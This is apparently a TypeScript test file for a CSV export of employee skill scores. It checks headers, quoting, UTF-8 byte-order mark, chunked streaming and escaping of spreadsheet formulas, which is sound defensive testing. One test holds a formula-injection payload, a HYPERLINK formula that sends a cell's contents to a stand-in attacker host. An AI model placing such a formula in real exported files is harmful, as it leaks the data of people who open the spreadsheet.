import type { PerformanceRow } from '@wfc/contract';
import { describe, expect, it } from 'vitest';
import { csvLine, inertText } from '../../../src/http/csv.ts';
import { csvHeader, csvRecord, csvStream } from '../../../src/performance/grid/csv.ts';

const skills = [
  { skillCode: 'S1', title: 'Accuracy' },
  { skillCode: 'S2', title: 'Speed, "raw"' },
];

const row: PerformanceRow = {
  performanceCode: 'P1',
  version: 3,
  employeeCode: 'E1',
  employeeId: 'E-001',
  employeeName: 'Zoë Ångström',
  date: '2024-03-05',
  skills: [
    { skillCode: 'S1', title: 'Accuracy', score: 0 },
    { skillCode: 'S2', title: 'Speed, "raw"', score: null },
  ],
  total: { daily: 7.5, monthly: 6.33, yearly: null },
};

describe('the CSV columns', () => {
  it('follow the grid: id, name, one per skill, then the three averages', () => {
    expect(csvHeader(skills)).toEqual([
      'Employee Id',
      'Employee Name',
      'Accuracy',
      'Speed, "raw"',
      'Daily Average',
      'Monthly Average',
      'Yearly Average',
    ]);
  });

  it('write scores as numbers, empty cells as empty and averages with two decimals', () => {
    expect(csvRecord(row)).toEqual(['E-001', 'Zoë Ångström', '0', '', '7.50', '6.33', '']);
  });

  it('keep text that a spreadsheet would run as a formula inert', () => {
    for (const s of ['=1+1', '+A1', '-2', '@SUM(A1)', '\tx', '\rx']) expect(inertText(s)).toBe(`'${s}`);
    for (const s of ['Ann', "O'Neil", 'a=b', '']) expect(inertText(s)).toBe(s);
  });
});

describe('csvStream', () => {
  it('writes UTF-8 with a byte-order mark, commas, CRLF and every field quoted', async () => {
    const chunks: Buffer[] = [];
    for await (const chunk of csvStream(skills, [row])) chunks.push(Buffer.from(chunk));
    const bytes = Buffer.concat(chunks);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe(
      '"Employee Id","Employee Name","Accuracy","Speed, ""raw""","Daily Average","Monthly Average","Yearly Average"\r\n' +
        '"E-001","Zoë Ångström","0","","7.50","6.33",""\r\n',
    );
  });

  it('writes the header alone when nothing matches', async () => {
    let text = '';
    for await (const chunk of csvStream(skills, [])) text += String(chunk);
    expect(text.split('\r\n')).toHaveLength(2);
  });
});

describe('formula neutralisation', () => {
  const evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Skill")';

  it('covers the header row: a skill title is a cell like any other', async () => {
    let text = '';
    for await (const chunk of csvStream([{ skillCode: 'S1', title: evil }], [])) text += String(chunk);
    expect(text).toBe(
      '\ufeff"Employee Id","Employee Name","\'=HYPERLINK(""http://evil.example/?leak=""&A2,""Skill"")",' +
        '"Daily Average","Monthly Average","Yearly Average"\r\n',
    );
  });

  it('covers every field of every line, whatever its column', () => {
    expect(csvLine(['=1', '+1', '-1', '@A1', '\t=1', '\r=1', 'safe', '7.50', ''])).toBe(
      `"'=1","'+1","'-1","'@A1","'\t=1","'\r=1","safe","7.50",""\r\n`,
    );
  });
});

describe('csvLine', () => {
  it('quotes every field, doubles quotes and keeps commas and line breaks inside the quotes', () => {
    expect(csvLine(['a', '', 'say "hi"', 'x,y', 'two\r\nlines'])).toBe(
      '"a","","say ""hi""","x,y","two\r\nlines"\r\n',
    );
  });
});

describe('csvStream in chunks', () => {
  it('writes every row once, in order, however many chunks it takes', async () => {
    const many = Array.from({ length: 3000 }, (_, i) => ({ ...row, employeeId: `E-${i}` }));
    const chunks: string[] = [];
    for await (const chunk of csvStream(skills, many)) chunks.push(String(chunk));
    expect(chunks.length).toBeGreaterThan(1);
    const lines = chunks.join('').split('\r\n');
    expect(lines).toHaveLength(3002);
    expect(lines[1]).toBe('"E-0","Zoë Ångström","0","","7.50","6.33",""');
    expect(lines[3000]).toBe('"E-2999","Zoë Ångström","0","","7.50","6.33",""');
    expect(lines[3001]).toBe('');
  });
});
